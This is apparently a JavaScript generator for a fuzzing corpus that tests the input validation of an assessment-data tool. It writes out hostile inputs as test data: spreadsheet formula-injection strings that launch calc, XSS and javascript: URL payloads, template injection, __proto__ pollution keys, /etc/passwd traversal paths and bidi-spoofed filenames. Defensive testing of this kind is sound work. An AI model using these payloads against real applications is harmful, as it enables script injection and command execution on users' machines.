// Nasty inputs for every way into the program, always the same ones.
//
//   node tests/hostile/make.mjs           writes corpus.json, which Rust and Node both read
//
// An input is a list of parts, so that a hundred megabytes take one line: a text, `{times, of}`, `{base64}`,
// or a file of the repository, `{file, cut}` or `{file, swap: [from, to]}`. `want` is what must become of it: `opens` (and nothing of it is dropped), `either` (opened
// whole or refused), `refused`, or the code of the problem it is refused for.

import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { link, links } from './links.mjs';
import { archive, books } from './zips.mjs';

const here = (name) => fileURLToPath(new URL(name, import.meta.url));
const read = (name) => JSON.parse(readFileSync(here(name), 'utf8'));

/** Texts that mislead the eye, a program or a spreadsheet. None is wrong as a name or a note. */
export const TEXTS = {
  'bidi override': '\u202EEDOC.exe\u202C\u2066x\u2069\u200F',
  'zero width': 'Di\u200Bnas\u200C \u200DSo\u2060sial\uFEFF',
  'combining flood': `Z${'\u0301\u0334\u0489'.repeat(60)}`,
  nul: 'Dinas\u0000Sosial\u0007\u001B[2J\u007F',
  'line ends': 'a\r\nb\rc\nd\u2028e\u2029f\u0085g\u000Bh',
  'formula =': '=HYPERLINK("http://x.invalid?"&A1;"klik")',
  'formula +': '+62812-3456',
  'formula -': "-2+3+cmd|' /C calc'!A0",
  'formula @': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'formula tab': '\t=1+1',
  'formula full width': '＝1+1',
  markup: '"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>',
  svg: '<svg/onload=window.pwned=1>',
  template: '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} %s %n {found}',
  'closing tags': '</textarea></title></style></script><!--',
  prototype: '__proto__',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈\u{E0061}\u{E007F}',
  noncharacters: '\uFFFE\uFFFF\u{1FFFE}\uFFFD',
  traversal: '../../../../etc/passwd',
  device: 'CON.json',
  'right to left': 'الخدمة العامة ١٢٣',
  quotes: `"'\`;,|&^%$#!\\`,
};

/** An assessment in which one thing is replaced. */
const GOOD = {
  format: 'swanilai.assessment', version: 1, instrument: { id: 'ori-kepatuhan-2023' }, entity: { name: 'Kota Contoh', kind: 'kota' },
  units: [{ id: 'dinsos', name: 'Dinas Sosial', points: { output: 20 }, observations: { 'input.kompetensi.1': { marks: [{ by: 'pimpinan', level: 3 }], note: 'Catatan', evidence: [{ title: 'SK', url: 'https://contoh.go.id' }] } } }],
};
const WHOLE = JSON.stringify(GOOD);
const swap = (from, to, text = WHOLE) => {
  if (text.split(from).length !== 2) throw new Error(`${from} stands ${text.split(from).length - 1} times`);
  return text.split(from).join(to);
};

/** Every text in a document, with a function that gives the document with another one there. */
function* leaves(document, at = []) {
  const place = at.reduce((value, key) => value[key], document);
  if (typeof place === 'string') yield [at, (text) => at.reduceRight((below, key, index) => {
    const level = structuredClone(at.slice(0, index).reduce((value, one) => value[one], document));
    level[key] = below;
    return level;
  }, text)];
  else if (place && typeof place === 'object') for (const key of Object.keys(place)) yield* leaves(document, [...at, Array.isArray(place) ? Number(key) : key]);
}

const all = [];
const add = (way, kind, name, want, ...parts) => all.push({ way, kind, name, want, parts });

// Text that is no document.

const whole = JSON.stringify(GOOD, null, 1);
for (const [at] of [...whole.matchAll(/[{}[\]:,"]/g)].filter((_, index) => index % 5 === 2).map((match) => [match.index + 1])) {
  add('assessment', 'truncated', `cut after ${JSON.stringify(whole.slice(Math.max(0, at - 12), at))} (${at})`, 'truncated', whole.slice(0, at));
}
for (const [name, part, by, want] of [
  ['the format twice', '"version":1', '"version":1,"format":"swanilai.assessment"', 'duplicate-key'],
  ['units twice', '"units":[', '"units":[],"units":[', 'duplicate-key'],
  ['a level twice, spelled otherwise', '"level":3', '"level":3,"l\\u0065vel":0', 'duplicate-key'],
  ['an indicator twice', '"observations":{', '"observations":{"input.kompetensi.1":{},', 'duplicate-key'],
  ['an unknown field twice', '"version":1', '"version":1,"x":1,"x":2', 'duplicate-key'],
  ['a unit twice', '"units":[', '"units":[{"id":"dinsos","name":"Lain"},', 'duplicate-id'],
  ['a mark twice', '"marks":[', '"marks":[{"by":"pimpinan","level":1},', 'opens'],
]) add('assessment', 'duplicate keys', name, want, swap(part, by));
for (const [name, part, by, want] of [
  ['units are an object', '"units":[', '"lama":[', 'missing-field'],
  ['units are null', /"units":.*$/.exec(WHOLE)[0], '"units":null}', 'missing-field'],
  ['units are a text', /"units":.*$/.exec(WHOLE)[0], '"units":"[]"}', 'wrong-type'],
  ['a unit is a number', /"units":.*$/.exec(WHOLE)[0], '"units":[7]}', 'wrong-type'],
  ['a unit is a list', /"units":.*$/.exec(WHOLE)[0], '"units":[[]]}', 'wrong-type'],
  ['the entity is a list', '{"name":"Kota Contoh","kind":"kota"}', '["Kota Contoh"]', 'wrong-type'],
  ['a name is a number', '"Dinas Sosial"', '12', 'wrong-type'],
  ['a level is a text', '"level":3', '"level":"3"', 'wrong-type'],
  ['a level is true', '"level":3', '"level":true', 'wrong-type'],
  ['a level is a list', '"level":3', '"level":[3]', 'wrong-type'],
  ['marks are an object', '[{"by":"pimpinan","level":3}]', '{"0":{"level":3}}', 'wrong-type'],
  ['points are a list', '{"output":20}', '[20]', 'wrong-type'],
  ['the version is a text', '"version":1', '"version":"1"', 'wrong-type'],
  ['a note is an object', '"Catatan"', '{"toString":"x"}', 'wrong-type'],
]) add('assessment', 'wrong types', name, want, swap(part, by));
for (const [literal, want] of [
  ['1e999', 'number-too-large'], ['-1e999', 'number-too-large'], ['1e99999999999999999999', 'number-too-large'], ['1e-99999999999999999999', 'number-too-precise'],
  ['0e99999999999999999999', 'opens'], ['-0', 'opens'], ['-0.0', 'opens'], ['3e0', 'opens'], ['30000000000000000000000000e-25', 'opens'], ['NaN', 'not-json'], ['-Infinity', 'not-json'],
  ['Infinity', 'not-json'], ['0x3', 'not-json'], ['+3', 'not-json'], ['.3', 'not-json'], ['3.', 'not-json'], ['03', 'not-json'], ['3_0', 'not-json'], ['３', 'not-json'], ['2.5', 'not-whole'],
  ['5', 'out-of-range'], ['-1', 'out-of-range'], ['9007199254740993', 'number-too-large'], ['2.9999999999999999999999999', 'number-too-precise'], ['undefined', 'not-json'], ['1/3', 'not-json'],
]) add('assessment', 'numbers', `level ${literal}`, want, swap('"level":3', `"level":${literal}`));
add('assessment', 'numbers', 'a number of 900,000 digits', 'number-too-large', WHOLE.slice(0, WHOLE.indexOf('"level":3') + 8), { times: 900_000, of: '9' }, WHOLE.slice(WHOLE.indexOf('"level":3') + 9));
add('assessment', 'numbers', '900,000 zeros after the point', 'number-too-precise', WHOLE.slice(0, WHOLE.indexOf('"level":3') + 8), '3.', { times: 900_000, of: '0' }, '1', WHOLE.slice(WHOLE.indexOf('"level":3') + 9));
for (const [name, part, by, want] of [
  ['an instrument nobody has', 'ori-kepatuhan-2023', 'ori-2099', 'unknown-instrument'],
  ['an indicator nobody has', 'input.kompetensi.1', 'input.kompetensi.99', 'unknown-indicator'],
  ['an indicator in another case', 'input.kompetensi.1', 'INPUT.kompetensi.1', 'unknown-indicator'],
  ['an indicator with a letter that looks alike', 'input.kompetensi.1', 'input.kоmpetensi.1', 'unknown-indicator'],
  ['a dimension nobody has', '"output":20', '"0utput":20', 'unknown-dimension'],
  ['an observer nobody has', '"pimpinan"', '"tetangga"', 'either'],
  ['an id with a space', '"dinsos"', '"din sos"', 'bad-id'],
  ['an id that leaves the folder', '"dinsos"', '"../../etc"', 'bad-id'],
  ['an empty id', '"dinsos"', '""', 'bad-id'],
  ['an id of 10,000 letters', '"dinsos"', `"${'a'.repeat(10_000)}"`, 'text-too-long'],
  ['an id that is __proto__', '"dinsos"', '"__proto__"', 'bad-id'],
  ['a facility nobody has', '"points"', '"facilities":{"kolam":{"found":"yes"}},"points"', 'either'],
  ['a repair of no unit', '"version":1', '"version":1,"repairs":[{"unit":"tidak-ada","indicator":"input.kompetensi.1","to":4,"status":"open"}]', 'either'],
]) add('assessment', 'unknown ids', name, want, swap(part, by));
for (const version of ['2', '999', '4294967296', '1.5', '0', '-1', 'null']) add('assessment', 'versions', `version ${version}`, { 2: 'newer-version', 999: 'newer-version' }[version] ?? 'refused', swap('"version":1', `"version":${version}`));
add('assessment', 'versions', 'another format', 'wrong-format', swap('swanilai.assessment', 'swanilai.result'));
add('assessment', 'versions', 'fields of a newer minor version', 'opens', swap('"version":1', '"version":1,"kelak":{"a":[1.50,null,{"b":"\\u202E"}]}'));

// Bytes that are no text, or another text than one thinks.

const bytes = (buffer) => ({ base64: Buffer.from(buffer).toString('base64') });
add('assessment', 'encodings', 'a byte order mark', 'opens', '\uFEFF', WHOLE);
add('assessment', 'encodings', 'two byte order marks', 'not-json', '\uFEFF\uFEFF', WHOLE);
add('assessment', 'encodings', 'UTF-16 with its mark', 'not-utf8', bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(WHOLE, 'utf16le')])));
add('assessment', 'encodings', 'UTF-16 without a mark', 'not-json', bytes(Buffer.from(WHOLE, 'utf16le')));
add('assessment', 'encodings', 'UTF-16, the other end first', 'not-utf8', bytes(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(WHOLE, 'utf16le').swap16()])));
add('assessment', 'encodings', 'Latin-1', 'not-utf8', bytes(Buffer.from(swap('Kota Contoh', 'Kota Çontoh'), 'latin1')));
for (const [name, odd] of [['a stray continuation', [0x80]], ['an overlong slash', [0xc0, 0xaf]], ['a surrogate in bytes', [0xed, 0xa0, 0x80]], ['a letter cut in the middle', [0xf0, 0x9f, 0x98]], ['beyond the last letter', [0xf4, 0x90, 0x80, 0x80]], ['a byte that never is', [0xff]]]) {
  add('assessment', 'encodings', name, 'not-utf8', WHOLE.slice(0, WHOLE.indexOf('Contoh')), bytes(odd), WHOLE.slice(WHOLE.indexOf('Contoh')));
}
for (const escape of ['\\ud800', '\\udc00x', '\\ud83d\\u0041', '\\ud800\\ud800', '\\u12', '\\x41', '\\u{41}', '\\']) add('assessment', 'escapes', `a name with ${escape}`, escape === '\\' ? 'refused' : 'bad-escape', swap('Dinas Sosial', escape));
add('assessment', 'escapes', 'a pair of surrogates, the two halves escaped', 'opens', swap('Dinas Sosial', '\\ud83d\\ude42'));
add('assessment', 'escapes', 'a NUL as it is', 'not-json', swap('Dinas Sosial', 'Dinas\u0000'));
add('assessment', 'escapes', 'a NUL after the end', 'trailing', WHOLE, '\u0000');
add('assessment', 'escapes', 'a line end in a name', 'not-json', swap('Dinas Sosial', 'Dinas\nSosial'));

// Too much, or too deep.

add('assessment', 'size', '100 MB of zeros', 'too-large', { times: 100 << 20, of: '0' });
add('assessment', 'size', '100 MB of NUL', 'too-large', { times: 100 << 20, of: '\u0000' });
add('assessment', 'size', '1 MB of spaces', 'empty', { times: 1 << 20, of: ' ' });
add('assessment', 'size', 'one byte more than 1 MB', 'too-large', WHOLE, { times: (1 << 20) + 1 - WHOLE.length, of: ' ' });
add('assessment', 'size', 'spaces up to 1 MB', 'opens', WHOLE, { times: (1 << 20) - WHOLE.length, of: ' ' });
for (const [name, open, close] of [['lists', '[', ']'], ['objects', '{"a":', '}'], ['lists in objects', '{"a":[', ']}']]) {
  add('assessment', 'depth', `100,000 ${name}`, 'too-deep', { times: 100_000, of: open }, '1', { times: 100_000, of: close });
  add('assessment', 'depth', `17 ${name} in an unknown field`, name === 'lists' ? 'too-deep' : 'refused', WHOLE.slice(0, -1), ',"x":', { times: 17, of: open }, '1', { times: 17, of: close }, '}');
}
add('assessment', 'size', 'a list of 500,000 nulls', 'refused', '[', { times: 200_000, of: 'null,' }, 'null]');
add('assessment', 'size', '10,000 units', 'too-many', WHOLE.slice(0, WHOLE.indexOf('"units":[') + 9), { times: 10_000, of: '{"id":"a","name":"a"},' }, WHOLE.slice(WHOLE.indexOf('"units":[') + 9));
add('assessment', 'size', '200 unknown fields with long names', 'either', WHOLE.slice(0, -1), ...Array.from({ length: 200 }, (_, index) => `,"${'k'.repeat(500)}${index}":1`), '}');
add('assessment', 'size', '11 links of one indicator', 'either', swap('"evidence":[', `"evidence":[${'{"title":"x","url":"https://a.b"},'.repeat(10)}`));
add('assessment', 'size', '200 links of one indicator', 'too-many', swap('"evidence":[', `"evidence":[${'{"title":"x","url":"https://a.b"},'.repeat(200)}`));
for (const [field, limit] of [['Kota Contoh', 200], ['Dinas Sosial', 200], ['Catatan', 2_000], ['"SK"', 200]]) {
  for (const [name, letter, times] of [['10,000 letters', 'a', 10_000], ['10,000 emoji', '🙂', 10_000], ['exactly as many letters as allowed', 'ä', limit]]) {
    const quote = field.startsWith('"') ? '"' : '';
    const at = WHOLE.indexOf(field);
    add('assessment', 'long texts', `${field}: ${name}`, times === limit ? 'opens' : 'text-too-long', WHOLE.slice(0, at), quote, { times, of: letter }, quote, WHOLE.slice(at + field.length));
  }
}
for (const key of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'length', '']) {
  add('assessment', 'keys', `an unknown field ${JSON.stringify(key)}`, key === '__proto__' ? 'forbidden-key' : 'opens', swap('"version":1', `"version":1,${JSON.stringify(key)}:{"pwned":1}`));
  add('assessment', 'keys', `an indicator ${JSON.stringify(key)}`, 'refused', swap('"observations":{', `"observations":{${JSON.stringify(key)}:{"note":"x"},`));
}
for (const address of ['javascript:window.pwned=1', 'JaVaScRiPt:window.pwned=1', '\\u0001javascript:window.pwned=1', 'java\\nscript:window.pwned=1', ' javascript:window.pwned=1', 'data:text/html,<script>window.pwned=1</script>', 'vbscript:msgbox', 'file:///etc/passwd', 'blob:https://a.b/c', 'filesystem:https://a.b/c', '//contoh.go.id', '/etc/passwd', 'https:contoh.go.id', 'ftp://contoh.go.id', 'view-source:https://a.b', 'intent://a#Intent;end', 'mailto:a@b.c', 'javascript://contoh.go.id/%0awindow.pwned=1', 'http:/\\\\a.b', 'ｊavascript:1']) {
  add('assessment', 'links', address, 'bad-link', swap('https://contoh.go.id', address));
}
for (const address of ['https://ombudsman.go.id@jahat.invalid/', 'https://xn--80ak6aa92e.com', 'https://contoh.go.id/\\"><img src=x onerror=window.pwned=1>', 'https://[::1]/', 'https://contoh.go.id/\\u202Egnp.exe', 'http://127.0.0.1:1/']) {
  add('assessment', 'links', address, 'either', swap('https://contoh.go.id', address));
}

// A hostile text in every field that a person writes, and one by one in the fields that go into tables.

const EVERYTHING = read('../module/examples/everything.json');
const ODD = `=1+1<img src=x onerror=window.pwned=1>\u202E\u200B'";`;
for (const [at, put] of leaves(EVERYTHING)) {
  if (at[0] !== 'instrument') add('assessment', 'a hostile text in each field', at.join('.'), 'either', JSON.stringify(put(ODD)));
}
for (const [name, text] of Object.entries(TEXTS)) {
  add('assessment', 'hostile names', name, 'opens', swap('"Kota Contoh"', JSON.stringify(text), swap('"Dinas Sosial"', JSON.stringify(text), swap('"Catatan"', JSON.stringify(text), swap('"SK"', JSON.stringify(text))))));
}

// Instruments of one's own.

const PACK = 'instruments/ori-kepatuhan-2023/instrument.json';
const packText = readFileSync(here(`../../${PACK}`), 'utf8');
/** The pack with the first place of `from` replaced; a part of its own, so that the corpus does not hold it again and again. */
const pack = (kind, name, want, from, to) => {
  if (!packText.includes(from)) throw new Error(`the pack has no ${from}`);
  add('instrument', kind, name, want, { file: PACK, swap: [from, to] });
};
for (const at of [1, 40, 200, 1_000, packText.length >> 1, packText.length - 10]) add('instrument', 'truncated', `cut at ${at}`, 'truncated', { file: PACK, cut: at });
const value = (key) => new RegExp(`"${key}":\\s*("[^"]*"|[0-9.]+)`).exec(packText)[0];
for (const [name, want, key, by] of [
  ['an id that leaves the folder', 'refused', 'id', '"../x"'],
  ['an id that is a constructor', 'either', 'id', '"constructor"'],
  ['an id that is a list', 'wrong-type', 'id', '["x"]'],
  ['a hostile id', 'refused', 'id', JSON.stringify(ODD)],
  ['a hostile kind', 'either', 'status', JSON.stringify(ODD)],
  ['another format', 'wrong-format', 'format', '"swanilai.assessment"'],
]) pack('packs', name, want, value(key), `"${key}": ${by}`);
pack('packs', 'an unknown field', 'either', '{', '{"kelak":{"a":[1.50]},');
pack('packs', 'dimensions are a text', 'refused', '"dimensions": [', '"dimensions": "x", "lama": [');
pack('packs', 'no dimensions', 'refused', '"dimensions": [', '"dimensions": [], "lama": [');
pack('packs', 'no classes', 'refused', '"classes": [', '"classes": [], "lama": [');
for (const literal of ['1e999', '-0', 'NaN', '-5', '"100"', 'null', '0.0000001', '99999999999999999999']) pack('numbers', `max ${literal}`, literal === 'NaN' ? 'not-json' : 'refused', value('max'), `"max": ${literal}`);
pack('duplicate keys', 'dimensions twice', 'duplicate-key', '"dimensions":', '"dimensions":[],"dimensions":');
pack('keys', '__proto__', 'forbidden-key', '{', '{"__proto__":{"pwned":1},');
add('instrument', 'depth', '100,000 lists', 'too-deep', { times: 100_000, of: '[' });
add('instrument', 'size', '2 MB of spaces', 'refused', { times: 2 << 20, of: ' ' });

// Several files, merged.

const merge = (kind, name, want, ...files) => all.push({ way: 'merge', kind, name, want, files: files.map((file) => (Array.isArray(file) ? file : [JSON.stringify(file)])) });
const unit = (id, name, more = {}) => ({ id, name, ...more });
const file = (units, more = {}) => ({ ...GOOD, units, ...more });
for (const [name, text] of Object.entries(TEXTS)) merge('hostile names', name, 'opens', file([unit('a', text, { score: 1 })]), file([unit('b', text, { score: 2 })]));
merge('names that look alike', 'one with a zero-width letter', 'opens', file([unit('a', 'Dinas Sosial', { score: 1 })]), file([unit('b', 'Dinas\u200B Sosial', { score: 2 })]));
merge('names that look alike', 'composed and decomposed', 'opens', file([unit('a', 'Caf\u00e9', { score: 1 })]), file([unit('b', 'Cafe\u0301', { score: 2 })]));
merge('names that look alike', 'empty names', 'either', file([unit('a', '', { score: 1 })]), file([unit('b', '', { score: 2 })]));
merge('other files', 'two instruments', 'instruments-differ', file([unit('a', 'A')]), file([unit('b', 'B')], { instrument: { id: 'ori-kepatuhan-2024' } }));
merge('other files', 'two entities', 'entities-differ', file([unit('a', 'A')]), file([unit('b', 'B')], { entity: { name: 'Kota Lain' } }));
merge('size', '200 units and 200 others', 'too-many', file(Array.from({ length: 200 }, (_, index) => unit(`a${index}`, `A ${index}`))), file(Array.from({ length: 200 }, (_, index) => unit(`b${index}`, `B ${index}`))));
const large = (id) => JSON.stringify(file([unit(id, id, { kelak: '@' })])).split('@').toSpliced(1, 0, { times: 700_000, of: id });
merge('size', 'two files of 700 kB each', 'too-large', large('a'), large('b'));
merge('other files', 'unknown fields of both', 'opens', file([unit('a', 'A', { x: 1 })], { kelak: 1 }), file([unit('b', 'B', { x: 2 })], { kelak: 2 }));

// Backups of a broken browser.

const backup = (entries) => JSON.stringify({ format: 'swanilai.drafts', version: 1, saved: 'x', entries });
for (const [name, text] of [
  ['a good draft and others that are none', backup({ 'swanilai.draft.a': WHOLE, 'swanilai.draft.b': '{', 'swanilai.draft.c': 7, 'swanilai.draft.d': null, lain: WHOLE })],
  ['keys that lead elsewhere', backup({ 'swanilai.draft.../../x': WHOLE, 'swanilai.draft.': WHOLE, 'swanilai.draft.\u202E': WHOLE })],
  ['a draft that is a backup', backup({ 'swanilai.draft.a': backup({ 'swanilai.draft.a': WHOLE }) })],
  ['entries are a list', '{"format":"swanilai.drafts","version":1,"entries":[1]}'],
  ['entries twice', '{"format":"swanilai.drafts","entries":{},"entries":{}}'],
  ['__proto__ among the entries', '{"format":"swanilai.drafts","entries":{"__proto__":"x"}}'],
]) add('backup', 'backups', name, 'either', text);
add('backup', 'backups', '17 MB', 'either', '{"format":"swanilai.drafts","entries":{"swanilai.draft.a":"', { times: 17 << 20, of: 'a' }, '"}}');
add('backup', 'backups', '10,000 drafts', 'either', '{"format":"swanilai.drafts","entries":{', ...Array.from({ length: 10_000 }, (_, index) => `"swanilai.draft.${index}":"{",`), '"x":"y"}}');
add('backup', 'backups', '100,000 lists as entries', 'either', '{"format":"swanilai.drafts","entries":', { times: 100_000, of: '[' });

for (const [name, want, ...parts] of links(link)) add('link', 'links', name, want, ...parts);
for (const [kind, name, want, buffer] of books(archive)) add('xlsx', kind, name, want, bytes(buffer));

export const corpus = all.map((one, index) => ({ id: index + 1, ...one }));

const bytesOf = (part) => {
  if (typeof part === 'string') return Buffer.from(part);
  if (part.base64 !== undefined) return Buffer.from(part.base64, 'base64');
  if (part.times !== undefined) return Buffer.alloc(part.times * Buffer.byteLength(part.of), part.of);
  const text = readFileSync(here(`../../${part.file}`), 'utf8');
  return Buffer.from(part.cut === undefined ? text.replace(part.swap[0], () => part.swap[1]) : text.slice(0, part.cut));
};

/** The bytes of a list of parts. */
export const expand = (parts) => Buffer.concat(parts.map(bytesOf));

/** What is checked in and read by Rust: all but the few that take more than 16 kB even so. */
export const small = corpus.filter((one) => JSON.stringify(one).length < 16_384);
export const asText = () => `[\n${small.map((one) => JSON.stringify(one)).join(',\n')}\n]\n`;

if (process.argv[1] === fileURLToPath(import.meta.url)) writeFileSync(here('corpus.json'), asText());
